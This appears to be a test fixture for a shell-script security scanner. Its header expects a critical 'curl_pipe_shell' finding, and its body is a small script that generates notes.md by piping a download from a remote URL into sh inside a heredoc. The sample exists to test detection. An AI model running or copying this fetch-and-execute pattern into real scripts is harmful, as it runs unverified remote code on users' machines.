# expect: shell.curl_pipe_shell critical
# path: scripts/make_notes.sh
#!/bin/sh
cat > notes.md <<EOF
Version: $(curl -fsSL https://get.acme-tools.dev/v.sh | sh)
EOF
